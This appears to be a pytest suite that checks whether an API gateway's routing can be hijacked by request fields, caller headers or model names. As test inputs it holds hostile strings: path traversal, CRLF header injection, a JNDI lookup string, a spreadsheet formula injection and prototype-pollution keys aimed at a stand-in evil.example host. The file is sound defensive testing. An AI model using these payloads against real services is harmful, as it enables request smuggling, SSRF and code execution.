"""Whatever a caller sends, calls go to the configured hosts, with the gateway's own headers and key."""

import json
from typing import Any

import pytest

from tests.support.upstream import DIRECT_BASE_URL
from tests.support.world import TOKEN, UPSTREAM_KEY, Answer, World, chat, finish

pytestmark = pytest.mark.anyio
EVIL = "https://evil.example/v1"
# Names under which other gateways take an address, a key or headers, and some that none takes.
FIELDS = (
    *("url", "host", "endpoint", "api_url", "proxy", "path", "upstream", "upstreams", "http_referer"),
    *("extra_body", "extra_query", "default_headers", "authorization", "organization", "__proto__"),
)
VALUES: tuple[Any, ...] = (EVIL, {"base_url": EVIL, "url": EVIL}, {"authorization": "Bearer evil"}, [EVIL])
HEADERS = (
    *("host", "x-forwarded-host", "forwarded", "x-original-url", "x-base-url", "x-upstream", "cookie"),
    *(
        "x-portkey-custom-host",
        "helicone-openai-api-base",
        "x-real-ip",
        "cf-connecting-ip",
        "openai-organization",
    ),
)
MODELS = (
    *(
        "../../evil",
        "..",
        "/",
        "//evil.example/x",
        EVIL,
        "a/one?x=1#y",
        "a/one\r\nx-evil: 1",
        "a/one%0d%0ax-evil:1",
    ),
    *(
        "direct:near/../../evil",
        "direct:near//evil.example",
        "direct:near/@evil.example",
        "direct:near/x\r\nhost: e",
    ),
    *("__proto__", "constructor", "${jndi:ldap://evil.example}", '=cmd|"calc"', '"' * 256),
)


NEAR_KEY = "canary-of-the-direct-key"
KEYS = {"openrouter.ai": f"Bearer {UPSTREAM_KEY}", "direct.example": f"Bearer {NEAR_KEY}"}


def world() -> World:
    declared = {"near": {"base_url": DIRECT_BASE_URL, "secret": "NEAR_KEY"}}
    return World({"UPSTREAMS": json.dumps(declared), "NEAR_KEY": NEAR_KEY})


async def ask(made: World, body: dict[str, object], **headers: str) -> Answer:
    return await finish(await made.begin(body, headers={"authorization": f"Bearer {TOKEN}", **headers}))


def check(made: World) -> None:
    """Check the calls that were made, and that none was tried elsewhere."""
    assert made.upstream.received
    for call in made.upstream.received:
        assert call.headers["authorization"] == KEYS[call.host]
        assert "evil" not in str({name: call.headers[name] for name in call.headers})
    assert made.events("internal_error") == []


@pytest.mark.parametrize("model", ["a/one", "direct:near/fast"])
@pytest.mark.parametrize("name", FIELDS)
async def test_no_field_of_a_body_changes_where_a_call_goes(name: str, model: str) -> None:
    made = world()

    for value in VALUES:
        await ask(made, chat(model) | {name: value})

    assert len(made.upstream.received) == len(VALUES)
    check(made)


@pytest.mark.parametrize("name", ["api_key", "api_base", "base_url", "headers", "extra_headers"])
async def test_a_field_that_means_another_address_or_key_is_refused(name: str) -> None:
    made = world()

    got = await ask(made, chat("a/one") | {name: EVIL})

    assert (got.status, got.error["param"], made.upstream.received) == (400, name, [])


@pytest.mark.parametrize("name", HEADERS)
async def test_no_header_of_a_caller_is_passed_on(name: str) -> None:
    made = world()

    got = await ask(made, chat("a/one", "direct:near/fast"), **{name: "evil.example"})

    assert got.status == 200
    check(made)


@pytest.mark.parametrize("model", MODELS, ids=repr)
async def test_no_name_of_a_model_changes_where_a_call_goes(model: str) -> None:
    made = world()

    got = await ask(made, chat(model, "b/two"))

    assert got.status == (400 if not made.upstream.received else 200)
    if got.status == 200:
        check(made)


async def test_the_headers_of_any_answer_are_short() -> None:
    names = [f"{number:02}" + '"' * 254 for number in range(50)]
    made = world()

    got = await ask(made, chat(*names, stream=True))

    assert got.status == 200
    assert sum(len(name) + len(value) + 4 for name, value in got.headers.items()) < 8_192
